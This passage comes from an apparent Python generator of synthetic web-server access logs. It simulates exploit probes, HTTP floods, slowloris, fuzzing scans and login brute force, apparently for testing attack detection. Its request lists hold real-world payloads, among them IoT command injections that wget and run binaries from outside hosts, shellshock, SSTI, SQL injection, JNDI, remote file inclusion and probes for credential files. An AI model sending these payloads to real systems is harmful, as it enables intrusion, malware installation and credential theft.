 ("mirai-boaform-get", "GET", "/boaform/admin/formLogin?username=adminisp&psd=adminisp", 404, "Mozilla/5.0", "-"),
 ("mirai-gpon", "POST", "/GponForm/diag_Form?images/", 404, "Hello, World", "-"),
 ("mirai-hnap", "POST", "/HNAP1/", 404, "Mozila/5.0", "-"),
 ("mirai-setupcgi", "GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://45.95.147.236/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", 404, "Mozilla/5.0", "-"),
 ("mirai-tmunblock", "POST", "/tmUnblock.cgi", 400, "-", "-"),
 ("mirai-huawei", "POST", "/ctrlt/DeviceUpgrade_1", 404, "Mozilla/5.0", "-"),
 ("mirai-realtek", "POST", "/picsdesc.xml", 404, "Mozilla/5.0", "-"),
 ("mirai-dvr", "GET", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Brm%20meowarm7%3B%20wget%20http%3A%2F%2F1.2.3.4%2Fmeowarm7%3B%20chmod%20777%20%2A%3B%20.%2Fmeowarm7%20tbk", 404, "Mozilla/5.0", "-"),
 ("mirai-jaws-mozi", "GET", "/cgi-bin/ViewLog.asp", 404, "Mozilla/5.0", "-"),
 ("mirai-zyxel", "POST", "/cgi-bin/ViewLog.asp", 404, "B4ckdoor-owned-you", "-"),
 ("mirai-linksys", "GET", "/language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://1.2.3.4/x;sh${IFS}/tmp/x&>r&&tar${IFS}/string.js", 404, "Mozilla/5.0", "-"),
 ("mirai-dlink", "GET", "/cgi-bin/ViewLog.asp?cmd=id", 404, "Mozilla/5.0", "-"),
 ("tplink-2023-1389", "GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", 404, "Mozilla/5.0", "-"),
 ("env-laravel", "GET", "/.env", 404, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36", "-"),
 ("env-post", "POST", "/.env", 404, "Mozilla/5.0", "-"),
 ("git-head", "GET", "/.git/HEAD", 404, "Mozilla/5.0", "-"),
 ("aws-creds", "GET", "/.aws/credentials", 404, "Mozilla/5.0", "-"),
 ("actuator-env", "GET", "/actuator/env", 404, "Mozilla/5.0", "-"),
 ("docker-api", "GET", "/v1.24/containers/json", 404, "Go-http-client/1.1", "-"),
 ("sftp-config", "GET", "/sftp-config.json", 404, "Mozilla/5.0", "-"),
 ("phpinfo", "GET", "/phpinfo.php", 404, "Mozilla/5.0", "-"),
 ("wp-config-swp", "GET", "/wp-config.php.swp", 404, "Mozilla/5.0", "-"),
 ("wp-config-tilde", "GET", "/wp-config.php~", 404, "Mozilla/5.0", "-"),
 ("backup-sql", "GET", "/backup.sql", 404, "Mozilla/5.0", "-"),
 ("id-rsa", "GET", "/.ssh/id_rsa", 404, "Mozilla/5.0", "-"),
 ("ds-store", "GET", "/.DS_Store", 404, "Mozilla/5.0", "-"),
 ("traversal-etc", "GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 400, "Mozilla/5.0", "-"),
 ("traversal-win", "GET", "/download?file=..\\..\\..\\windows\\win.ini", 404, "Mozilla/5.0", "-"),
 ("ssti-jinja", "GET", "/?s={{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", 200, "Mozilla/5.0", "-"),
 ("nginx-alias", "GET", "/static../etc/passwd", 404, "Mozilla/5.0", "-"),
 ("iis-codered", "GET", "/default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a", 404, "-", "-"),
 ("iis-nimda", "GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", 404, "-", "-"),
 ("shellshock-ua", "GET", "/cgi-bin/status", 404, "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'", "-"),
 ("shellshock-ref", "GET", "/", 200, "Mozilla/5.0", "() { ignored; }; /bin/bash -c 'wget http://1.2.3.4/x -O /tmp/x'"),
 ("xss-ua", "GET", "/", 200, "<script>alert(document.domain)</script>", "-"),
 ("sqli-ua", "GET", "/", 200, "Mozilla/5.0' AND SLEEP(5)-- -", "-"),
 ("sqli-ref", "GET", "/", 200, "Mozilla/5.0", "https://shop.example/' OR 1=1-- -"),
 ("webshell-probe", "GET", "/wp-content/plugins/hellopress/wp_filemanager.php", 404, "Mozilla/5.0", "-"),
 ("webshell-alfa", "GET", "/alfacgiapi/perl.alfa", 404, "Mozilla/5.0", "-"),
 ("webshell-xleet", "GET", "/wp-admin/css/colors/blue/xleet.php", 404, "Mozilla/5.0", "-"),
 ("webshell-shell20", "GET", "/wp-content/uploads/2024/shell20211028.php", 404, "Mozilla/5.0", "-"),
 ("webshell-wso", "GET", "/wso.php", 404, "Mozilla/5.0", "-"),
 ("geoserver-ognl", "GET", "/geoserver/ows?service=WFS&version=1.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'id')", 404, "Mozilla/5.0", "-"),
 ("crushftp", "GET", "/WebInterface/function/?command=getUserList&c2f=1111", 404, "Mozilla/5.0", "-"),
 ("ognl-generic-qs", "GET", "/login.action?%25%7B%28%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29%7D", 404, "Mozilla/5.0", "-"),
 ("nosql-qs", "GET", "/api/v1/products?name[$ne]=x&price[$gt]=0", 200, "Mozilla/5.0", "-"),
 ("crlf", "GET", "/%0d%0aSet-Cookie:crlf=injection", 404, "Mozilla/5.0", "-"),
 ("open-redirect", "GET", "/wp-login.php?redirect_to=https%3A%2F%2Fevil.example%2F", 200, "Mozilla/5.0", "-"),
 ("windows-cmd", "GET", "/?s=x%26cmd%20/c%20whoami", 200, "Mozilla/5.0", "-"),
 ("powershell", "GET", "/?s=x%7Cpowershell%20-enc%20SQBFAFgA", 200, "Mozilla/5.0", "-"),
 ("php-wrapper", "GET", "/index.php?page=php://filter/convert.base64-encode/resource=wp-config", 200, "Mozilla/5.0", "-"),
 ("rfi", "GET", "/index.php?page=http://1.2.3.4/shell.txt?", 200, "Mozilla/5.0", "-"),
 ("xxe-qs", "GET", "/?xml=%3C!DOCTYPE%20x%20[%3C!ENTITY%20xxe%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E", 200, "Mozilla/5.0", "-"),
 ("zgrab-connect", "CONNECT", "www.google.com:443", 400, "-", "-"),
 ("proxy-get", "GET", "http://www.google.com/", 400, "-", "-"),
]

def s_oneshots(L):
    ips = []; t = 30
    for i, (name, m, p, st, ua, ref) in enumerate(ONESHOTS):
        ip = "198.18.%d.%d" % (i // 200, i % 200 + 1)
        if m == "CONNECT" or p.startswith("http://"):
            L.add(t, ip, m, p, st, ua=ua, ref=ref, raw_req="%s %s HTTP/1.1" % (m, p))
        else:
            L.add(t, ip, m, p, st, ua=ua, ref=ref)
        ips.append((ip, name)); t += 7
    return dict(ips=ips, kind="oneshot", desc="one-request exploit probes, one per address")

# ---- floods ----
def s_cachebust(L, ip="176.97.210.5", rate=40, dur=60, ua=None, name="cache-busting flood"):
    t = 120; n = 0; ua = ua or BROWSERS[0]
    while t < 120 + dur:
        p = random.choice(["/", "/product/%s/" % random.choice(PRODUCTS), "/product-category/%s/" % random.choice(CATS)])
        q = "?%s=%d" % (random.choice(["v", "_", "cb", "t"]), random.randint(1, 10**9)) if "?" not in p else ""
        st = 200 if t < 120 + dur / 3 else random.choice([200, 200, 503, 503, 502])
        L.add(t, ip, "GET", p + q, st, ref=SITE + "/", ua=ua); t += random.expovariate(rate); n += 1
    return dict(ips=[ip], kind="flood", desc="%s: %d/s for %d s, random query, Chrome UA, Referer of the site, 503s later (%d req)" % (name, rate, dur, n))

def s_cachebust_20(L): return s_cachebust(L, ip="176.97.210.6", rate=20, dur=120)
def s_cachebust_100(L): return s_cachebust(L, ip="176.97.210.7", rate=100, dur=30)
def s_cachebust_15(L): return s_cachebust(L, ip="176.97.210.8", rate=15, dur=120)

def s_search_flood(L):
    ip = "176.97.210.9"; t = 120; n = 0
    while t < 180:
        L.add(t, ip, "GET", "/?s=%s&post_type=product" % "".join(random.choice("abcdefghijklmnop") for _ in range(6)), random.choice([200, 200, 504]), ref=SITE + "/", ua=BROWSERS[1]); t += random.expovariate(25); n += 1
    return dict(ips=[ip], kind="flood", desc="search flood (expensive uncached /?s=random) 25/s 60 s, Edge UA, 504s (%d req)" % n)

def s_woo_ajax_flood(L):
    ip = "176.97.210.10"; t = 120; n = 0
    while t < 180:
        L.add(t, ip, "POST", "/?wc-ajax=get_refreshed_fragments", random.choice([200, 200, 503]), ref=SITE + "/", ua=BROWSERS[0]); t += random.expovariate(30); n += 1
    return dict(ips=[ip], kind="flood", desc="POST /?wc-ajax=get_refreshed_fragments flood 30/s 60 s (uncacheable endpoint), 503s (%d req)" % n)

def s_slash24(L):
    ips = ["185.156.73.%d" % i for i in random.sample(range(2, 250), 12)]; t = 120; n = 0
    while t < 180:
        L.add(t, random.choice(ips), "GET", "/product/%s/?%d" % (random.choice(PRODUCTS), random.randint(1, 10**6)), random.choice([200, 503]), ua=random.choice(BROWSERS), ref=SITE + "/"); t += random.expovariate(120); n += 1
    return dict(ips=ips, kind="flood", desc="L7 flood rotating 12 addresses of one /24 at ~10/s each (120/s total) 60 s (%d req)" % n)

def s_slash24_5(L):
    ips = ["45.135.232.%d" % i for i in random.sample(range(2, 250), 5)]; t = 120; n = 0
    while t < 220:
        L.add(t, random.choice(ips), "GET", random.choice(["/", "/product-category/sale/", "/shop/"]), random.choice([200, 200, 503]), ua=BROWSERS[0]); t += random.expovariate(50); n += 1
    return dict(ips=ips, kind="flood", desc="L7 flood 5 addresses of one /24, 10/s each, one UA, 100 s (%d req)" % n)

def s_v6_64(L):
    t = 120; n = 0; ips = set()
    while t < 180:
        ip = "2a0e:97c0:3e3:1a2:%x:%x:%x:%x" % tuple(random.randint(0, 0xffff) for _ in range(4)); ips.add(ip)
        L.add(t, ip, "GET", "/?%d" % random.randint(1, 10**6), random.choice([200, 503]), ua=BROWSERS[0]); t += random.expovariate(40); n += 1
    return dict(ips=sorted(ips), kind="flood", desc="IPv6 flood, a new address of one /64 every request, 40/s 60 s (%d req)" % n)

def s_v6_48(L):
    t = 120; n = 0; ips = set()
    while t < 180:
        ip = "2a0e:97c0:3e3:%x:%x:%x:%x:%x" % tuple(random.randint(0, 0xffff) for _ in range(5)); ips.add(ip)
        L.add(t, ip, "GET", "/?%d" % random.randint(1, 10**6), random.choice([200, 503]), ua=BROWSERS[0]); t += random.expovariate(40); n += 1
    return dict(ips=sorted(ips), kind="flood", desc="IPv6 flood, a new address of one /48 (new /64 every request), 40/s 60 s (%d req)" % n)

def s_login_post_flood(L):
    ip = "176.97.210.11"; t = 120; n = 0
    while t < 180:
        L.add(t, ip, "POST", "/wp-login.php", random.choice([200, 200, 503]), ua=BROWSERS[0], ref=SITE + "/wp-login.php"); t += random.expovariate(40); n += 1
    return dict(ips=[ip], kind="flood", desc="POST /wp-login.php flood 40/s 60 s (%d req)" % n)

def s_head_flood(L):
    ip = "176.97.210.12"; t = 120; n = 0
    while t < 180:
        L.add(t, ip, "HEAD", random.choice(["/", "/shop/", "/product-category/sale/"]), 200, ua=BROWSERS[0]); t += random.expovariate(40); n += 1
    return dict(ips=[ip], kind="flood", desc="HEAD flood 40/s 60 s, 200 (%d req)" % n)

def s_429_flood(L):
    ip = "176.97.210.13"; t = 120; n = 0
    while t < 180:
        L.add(t, ip, "GET", "/product/%s/" % random.choice(PRODUCTS), 200 if t < 121 else 429, size=None, ua=BROWSERS[0]); t += random.expovariate(40); n += 1
    return dict(ips=[ip], kind="flood", desc="flood 40/s 60 s answered 429 by nginx limit_req after 1 s (%d req)" % n)

def s_503_limitreq(L):
    ip = "176.97.210.14"; t = 120; n = 0
    while t < 180:
        L.add(t, ip, "GET", "/", 200 if random.random() < 0.1 else 503, size=None, ua="Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1"); t += random.expovariate(40); n += 1
    return dict(ips=[ip], kind="flood", desc="flood 40/s 60 s, 90%% answered 503 by limit_req default status (%d req)" % n)

def s_scraper(L):
    ip = "176.97.210.15"; t = 120; n = 0
    for p in PRODUCTS * 3:
        L.add(t, ip, "GET", "/product/%s/" % p, 200, ua=BROWSERS[5]); t += random.expovariate(7); n += 1
    return dict(ips=[ip], kind="scrape", desc="scraper ignoring robots, every product page at ~7/s, Firefox UA, no assets (%d req)" % n)

def s_slowloris(L):
    ip = "176.97.210.16"; n = 0
    for k in range(8):
        t = 120 + 60 * k
        for i in range(150):
            L.add(t + random.uniform(0, 0.5), ip, "GET", "/?%d" % random.randint(1, 2000), 408, size=0, ua="-")
            n += 1
    return dict(ips=[ip], kind="flood", desc="slowloris: 150 sockets, nginx logs 408 for each every 60 s (client_header_timeout), 8 rounds (%d lines)" % n)

def s_slowloris_raw(L):
    ip = "176.97.210.17"; n = 0
    for k in range(8):
        t = 120 + 60 * k
        for i in range(150):
            L.add(t + random.uniform(0, 0.5), ip, "-", "-", 400, size=0, ua="-", raw_req="")
            n += 1
    return dict(ips=[ip], kind="flood", desc="slowloris / conn flood: 150 sockets with no request line, nginx logs \"\" 400 every 60 s, 8 rounds (%d lines)" % n)

def s_ddos_ua_bot(L):
    ip = "176.97.210.18"; t = 120; n = 0
    while t < 150:
        L.add(t, ip, "GET", "/", 200, ua=random.choice(BROWSERS), ref=random.choice(["https://www.google.com/", "https://www.bing.com/", SITE + "/", "-"])); t += random.expovariate(60); n += 1
    return dict(ips=[ip], kind="flood", desc="GET / flood 60/s 30 s, random UA + random referer each request (%d req)" % n)

def s_iot_batch(L):
    ip = "45.95.147.236"; t = 200
    for p, m in [("/shell?cd+/tmp;rm+-rf+*;wget+http://45.95.147.236/jaws;sh+/tmp/jaws", "GET"), ("/boaform/admin/formLogin", "POST"), ("/GponForm/diag_Form?images/", "POST"), ("/HNAP1/", "POST"), ("/cgi-bin/luci/;stok=/locale", "GET")]:
        L.add(t, ip, m, p, 404, ua="Hello, world"); t += 1
    return dict(ips=[ip], kind="oneshotish", desc="Mirai-style batch of 5 IoT exploits, 1/s")

def s_iis_worms(L):
    ip = "61.100.3.9"; t = 200
    nimda = ["/scripts/root.exe?/c+dir", "/MSADC/root.exe?/c+dir", "/c/winnt/system32/cmd.exe?/c+dir", "/d/winnt/system32/cmd.exe?/c+dir",
             "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir"]
    for p in nimda:
        L.add(t, ip, "GET", p, 404, ua="-"); t += 0.3
    return dict(ips=[ip], kind="oneshotish", desc="Nimda walk (6 requests)")


MED = """index images download 2006 news crack serial warez full 12 contact about search spacer privacy 11 logo blog new 10 cgi-bin faq rss home img default 2005 products sitemap archives 1 09 links 01 08 06 2 07 login articles support 05 keygen article 04 03 help events archive 02 register en forum software downloads 3 security 13 category 4 content 14 main 15 press media templates services icons resources info profile 16 2004 18 docs contactus files features html 20 21 22 23 2003 24 25 26 27 28 29 30 31 32 33 34 35 36 37 38 39 40 41 42 43 44 45 46 47 48 49 50 51 52 53 54 55 56 57 58 59 60 61 62 63 64 65 66 67 68 69 70 71 72 73 74 75 76 77 78 79 80 81 82 83 84 85 86 87 88 89 90 91 92 93 94 95 96 97 98 99 100 101 102 103 104 105 106 107 108 109 110 111 112 113 114 115 116 117 118 119 120""".split()

def s_gobuster_medium(L):
    n = fuzz(L, "91.92.243.15", 200, 40, "gobuster/3.6", MED)
    return dict(ips=["91.92.243.15"], kind="scanner", desc="gobuster dir -w directory-list-2.3-medium.txt (first 200 words: index images download 2006 news ...) default UA 40/s (%d req)" % n)

def s_ffuf_medium_browser(L):
    n = fuzz(L, "91.92.243.16", 200, 40, BROWSERS[0], MED)
    return dict(ips=["91.92.243.16"], kind="scanner", desc="ffuf -w directory-list-2.3-medium.txt -H UA:Chrome -t 40 ~40/s (%d req)" % n)

def s_ffuf_medium_browser_slow(L):
    n = fuzz(L, "91.92.243.17", 200, 0, BROWSERS[0], MED, delay=(0.5, 2.0))
    return dict(ips=["91.92.243.17"], kind="scanner", desc="ffuf -w directory-list-2.3-medium.txt -H UA:Chrome -p 0.5-2.0 (%d req)" % n)

def s_ffuf_medium_php_browser(L):
    n = fuzz(L, "91.92.243.18", 200, 20, BROWSERS[0], MED, exts=(".php", ".html"))
    return dict(ips=["91.92.243.18"], kind="scanner", desc="ffuf -w directory-list-2.3-medium.txt -e .php,.html -H UA:Chrome ~20/s (%d req)" % n)

def s_ffuf_vhost_params(L):
    ip = "91.92.243.19"; t = 200; n = 0
    for w in MED[:150]:
        L.add(t, ip, "GET", "/product/classic-cotton-tee/?%s=1" % w, 200, ua="Fuzz Faster U Fool v2.1.0-dev"); t += random.expovariate(40); n += 1
    return dict(ips=[ip], kind="scanner", desc="ffuf parameter discovery (?FUZZ=1 on a product page, all 200) default UA 40/s (%d req)" % n)

def s_arjun(L):
    ip = "91.92.243.20"; t = 200; n = 0
    for k in range(60):
        q = "&".join("%s=%d" % (w, random.randint(1000, 9999)) for w in random.sample(FFUF_WORDS + MED, 40))
        L.add(t, ip, "GET", "/product/classic-cotton-tee/?" + q, 200, ua=BROWSERS[0]); t += random.uniform(0.2, 1.0); n += 1
    return dict(ips=[ip], kind="scanner", desc="Arjun parameter discovery: 60 GETs each with 40 random params, browser UA (%d req)" % n)

SCEN = {k[2:]: v for k, v in globals().items() if k.startswith("s_") and callable(v)}

LOGINS = [
 ("woo", "POST", "/my-account/", 200), ("wplogin", "POST", "/wp-login.php", 200), ("opencart", "POST", "/index.php?route=account/login", 200),
 ("phpbb", "POST", "/ucp.php?mode=login", 200), ("roundcube", "POST", "/?_task=login", 401), ("whmcs", "POST", "/dologin.php", 302),
 ("drf", "POST", "/api-token-auth/", 400), ("djrestauth", "POST", "/api/auth/login/", 400), ("laravel422", "POST", "/api/login", 422),
 ("magento", "POST", "/customer/account/loginPost/", 302), ("joomla-front", "POST", "/index.php?option=com_users&task=user.login", 303),
 ("drupal", "POST", "/user/login", 200), ("grafana", "POST", "/login", 401), ("gitea", "POST", "/user/login", 200),
 ("mediawiki", "POST", "/index.php?title=Special:UserLogin&action=submitlogin&type=login", 200), ("vbulletin", "POST", "/login.php?do=login", 200),
 ("prestashop", "POST", "/login?back=my-account", 200), ("nextcloud", "POST", "/login", 303), ("keycloak", "POST", "/realms/master/login-actions/authenticate?session_code=x&execution=y&client_id=account", 200),
 ("adfs", "POST", "/adfs/ls/?client-request-id=x&wa=wsignin1.0", 200), ("owa", "POST", "/owa/auth.owa", 302), ("rails422", "POST", "/api/v1/sessions", 422),
 ("graphql401", "POST", "/graphql", 401), ("cpanel", "POST", "/login/?login_only=1", 401), ("pma", "POST", "/phpmyadmin/index.php?route=/", 200),
]

def mk_login(tag, m, p, st, fast, fetch):
    def f(L):
        ip = "193.36.%d.%d" % (LOGINS.index((tag, m, p, st)), 10 + 2 * fast + fetch); t = 60; n = 0
        form = p.split("?")[0] if m == "POST" else p
        while t < (400 if fast else DUR - 5):
            if fetch:
                L.add(t, ip, "GET", p, 200, ua=BROWSERS[0]); t += 0.3
            L.add(t, ip, m, p, st, ua=BROWSERS[0], ref=(SITE + p) if fetch else "-"); n += 1
            t += random.expovariate(4) if fast else 3 + random.uniform(0, 0.3)
        return dict(ips=[ip], kind="bf", desc="hydra %s %s %s %s answered %d, Chrome UA%s (%d guesses)" % (
            "-t 4 (~4/s, 340 s)" if fast else "-t 1 -W 3 (every 3 s, 20 min)", tag, m, p, st, ", C= form fetched before each guess + Referer" if fetch else ", no Referer", n))
    return f

for _l in LOGINS:
    for _fast in (1, 0):
        for _fetch in (0, 1):
            SCEN["login_%s_%s%s" % (_l[0], "fast" if _fast else "slow", "_form" if _fetch else "")] = mk_login(*_l, _fast, _fetch)

ONESHOTS2 = [
 ("sqli-ua-sleep", "GET", "/", 200, "Mozilla/5.0' AND SLEEP(5)-- -", "-"),
 ("sqli-ua-or", "GET", "/", 200, "' OR '1'='1", "-"),
 ("sqli-ua-union", "GET", "/", 200, "Mozilla/5.0 (X11) UNION SELECT NULL,NULL,NULL-- -", "-"),
 ("sqli-ua-pg", "GET", "/", 200, "Mozilla/5.0';SELECT PG_SLEEP(5)--", "-"),
 ("sqli-ua-sqlmap-xff", "GET", "/", 200, "Mozilla/5.0 (Windows NT 10.0) AND (SELECT 6221 FROM (SELECT(SLEEP(5)))zPfS)", "-"),
 ("sqli-ua-mssql", "GET", "/", 200, "Mozilla/5.0';WAITFOR DELAY '0:0:5'--", "-"),
 ("sqli-ref-or", "GET", "/", 200, BROWSERS[0], "https://shop.example/' OR 1=1-- -"),
 ("sqli-ref-sleep", "GET", "/", 200, BROWSERS[0], "https://shop.example/?id=1' AND SLEEP(5)#"),
 ("sqli-ref-bare", "GET", "/", 200, BROWSERS[0], "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- "),
 ("sqli-ua-acunetix", "GET", "/", 200, "if(now()=sysdate(),sleep(15),0)", "-"),
 ("sqli-ua-acunetix2", "GET", "/", 200, "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", "-"),
 ("sqli-qs-acunetix", "GET", "/?s=0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", 200, BROWSERS[0], "-"),
 ("sqli-qs-acunetix-enc", "GET", "/?s=0%27XOR%28if%28now%28%29%3Dsysdate%28%29%2Csleep%2815%29%2C0%29%29XOR%27Z", 200, BROWSERS[0], "-"),
 ("sqli-pathseg", "GET", "/product/1'%20AND%20SLEEP(5)--%20-/", 404, BROWSERS[0], "-"),
 ("ssti-ua", "GET", "/", 200, "{{7*7}}${7*7}<%= 7*7 %>", "-"),
 ("cmdi-ua", "GET", "/", 200, "Mozilla/5.0;$(curl http://oast.fun/x)", "-"),
 ("cmdi-ua-nslookup", "GET", "/", 200, "() { :; }; nslookup x.oast.pro", "-"),
 ("jndi-xff-like-ref", "GET", "/", 200, BROWSERS[0], "${jndi:ldap://x.oast.me/a}"),
 ("xss-ref", "GET", "/", 200, BROWSERS[0], "https://shop.example/\"><script>alert(1)</script>"),
 ("nuclei-oast-ref", "GET", "/?redirect=http://ct8abcd.oast.fun", 200, BROWSERS[0], "-"),
 # more KEV/exploit paths
 ("springcloud-gateway", "POST", "/actuator/gateway/routes/hacktest", 404, "Mozilla/5.0", "-"),
 ("confluence-setup", "GET", "/setup/setupadministrator.action", 404, "Mozilla/5.0", "-"),
 ("confluence-2023-22515", "GET", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", 404, "Mozilla/5.0", "-"),
 ("jira-ssrf", "GET", "/plugins/servlet/gadgets/makeRequest?url=https://shop.example@oast.fun", 404, "Mozilla/5.0", "-"),
 ("bitbucket", "GET", "/rest/api/latest/projects/x/repos/y/archive?filename=z&at=w&path=v&prefix=ax%00--exec=%60id%60%00--remote=origin", 404, "Mozilla/5.0", "-"),
 ("sonicwall", "GET", "/cgi-bin/jarrewrite.sh", 404, "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'", "-"),
 ("vbulletin-rce", "POST", "/ajax/render/widget_tabbedcontainer_tab_panel", 404, "Mozilla/5.0", "-"),
 ("zimbra", "POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", 404, "Mozilla/5.0", "-"),
 ("zimbra-autodiscover", "POST", "/Autodiscover/Autodiscover.xml", 404, "Mozilla/5.0", "-"),
 ("hikvision", "PUT", "/SDK/webLanguage", 404, "Mozilla/5.0", "-"),
 ("spring-h2", "GET", "/h2-console/login.do?jsessionid=x", 404, "Mozilla/5.0", "-"),
 ("openfire", "GET", "/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp", 404, "Mozilla/5.0", "-"),
 ("teamcity", "GET", "/app/rest/users/id:1/tokens/RPC2", 404, "Mozilla/5.0", "-"),
 ("jetbrains-2024", "GET", "/hax?jsp=/app/rest/server;.jsp", 404, "Mozilla/5.0", "-"),
 ("apisix", "GET", "/apisix/admin/routes", 404, "Mozilla/5.0", "-"),
 ("drupalgeddon2", "POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", 404, "python-requests/2.19.1", "-"),
 ("drupalgeddon2-get", "GET", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", 200, "Mozilla/5.0", "-"),
 ("magento-shoplift", "POST", "/index.php/admin/Cms_Wysiwyg/directive/index/", 404, "Mozilla/5.0", "-"),
 ("cosmicsting", "POST", "/rest/V1/guest-carts/1/estimate-shipping-methods", 404, "Mozilla/5.0", "-"),
 ("wp-revslider", "GET", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", 200, "Mozilla/5.0", "-"),
 ("wp-duplicator", "GET", "/wp-content/plugins/duplicator/installer/installer.php", 404, "Mozilla/5.0", "-"),
 ("wp-setup-config", "GET", "/wp-admin/setup-config.php?step=1", 404, "Mozilla/5.0", "-"),
 ("wp-install", "GET", "/wp-admin/install.php?step=1", 200, "Mozilla/5.0", "-"),
 ("wp-uploads-php", "GET", "/wp-content/uploads/2025/01/index.php", 404, "Mozilla/5.0", "-"),
 ("wlwmanifest", "GET", "/blog/wp-includes/wlwmanifest.xml", 404, "Mozilla/5.0", "-"),
 ("cgi-bin-php", "POST", "/cgi-bin/php5?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E", 404, "-", "-"),
 ("php-cve-2019-11043", "GET", "/index.php/PHP%0Ais_the_shittiest_lang.php?QQQQQQQQQQQQQQQQQQQQQ", 404, "Mozilla/5.0", "-"),
 ("adminer", "GET", "/adminer.php", 404, "Mozilla/5.0", "-"),
 ("vendor-git", "GET", "/vendor/.env", 404, "Mozilla/5.0", "-"),
 ("env-dev", "GET", "/.env.production", 404, "Mozilla/5.0", "-"),
 ("config-js", "GET", "/config.js", 404, "Mozilla/5.0", "-"),
 ("aws-yml", "GET", "/.aws/config", 404, "Mozilla/5.0", "-"),
 ("kube", "GET", "/.kube/config", 404, "Mozilla/5.0", "-"),
 ("git-creds", "GET", "/.git-credentials", 404, "Mozilla/5.0", "-"),
 ("bash-history", "GET", "/.bash_history", 404, "Mozilla/5.0", "-"),
 ("telescope", "GET", "/telescope/requests", 404, "Mozilla/5.0", "-"),
 ("debug-log", "GET", "/wp-content/debug.log", 404, "Mozilla/5.0", "-"),
 ("laravel-log", "GET", "/storage/logs/laravel.log", 404, "Mozilla/5.0", "-"),
 ("stripe-key", "GET", "/.stripe/config", 404, "Mozilla/5.0", "-"),
 ("docker-env", "GET", "/docker-compose.yml", 404, "Mozilla/5.0", "-"),
 ("appsettings", "GET", "/appsettings.json", 404, "Mozilla/5.0", "-"),
 ("firebase", "GET", "/firebase.json", 404, "Mozilla/5.0", "-"),
 ("server-status", "GET", "/server-status", 404, "Mozilla/5.0", "-"),
 ("cgi-bin-bash", "GET", "/cgi-bin/bash", 404, "Mozilla/5.0", "-"),
]

def s_oneshots2(L):
    ips = []; t = 30
    for i, (name, m, p, st, ua, ref) in enumerate(ONESHOTS2):
        ip = "198.19.%d.%d" % (i // 200, i % 200 + 1)
        L.add(t, ip, m, p, st, ua=ua, ref=ref); ips.append((ip, name)); t += 7
    return dict(ips=ips, kind="oneshot", desc="one-request probes 2")
SCEN["oneshots2"] = s_oneshots2

def _subset(names, base, tag):
    allx = {n: x for n, *x in [(o[0],) + tuple(o[1:]) for o in ONESHOTS + ONESHOTS2]}
    def f(L):
        ips = []; t = 30
        for i, n in enumerate(names):
            m, p, st, ua, ref = allx[n]
            ip = "%s.%d" % (base, i + 1)
            L.add(t, ip, m, p, st, ua=ua, ref=ref); ips.append((ip, n)); t += 11
        return dict(ips=ips, kind="oneshot", desc=tag)
    return f
SCEN["sqli_headers"] = _subset(["sqli-ua-sleep", "sqli-ua-union", "sqli-ua-pg", "sqli-ua-sqlmap-xff", "sqli-ua-mssql", "sqli-ua-acunetix", "sqli-ref-or", "sqli-ref-sleep", "sqli-ua", "sqli-ref"], "198.51.100", "sqli in UA/Referer")
SCEN["kev_paths"] = _subset(["spring-cloud-function", "panos-2024-3400", "checkpoint-2024-24919", "confluence-2023-22527", "thinkphp-captcha", "struts-s2-057", "crushftp", "mirai-tmunblock",
   "hikvision", "teamcity", "apisix", "magento-shoplift", "php-cve-2019-11043", "exchange-proxylogon", "moveit", "ivanti-epmm", "mirai-realtek", "mirai-jaws-mozi", "docker-api", "springcloud-gateway", "cosmicsting", "xdebug"], "192.0.2", "KEV exploit requests")

GB_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
def _flood(ip, rate, dur, ua, pathfn, method="GET", stfn=lambda t: random.choice([200, 200, 503]), ref="-", desc=""):
    def f(L):
        t = 120; n = 0
        while t < 120 + dur:
            L.add(t, ip, method, pathfn(), stfn(t), ua=ua() if callable(ua) else ua, ref=ref); t += random.expovariate(rate); n += 1
        return dict(ips=[ip], kind="flood", desc="%s (%d req)" % (desc, n))
    return f
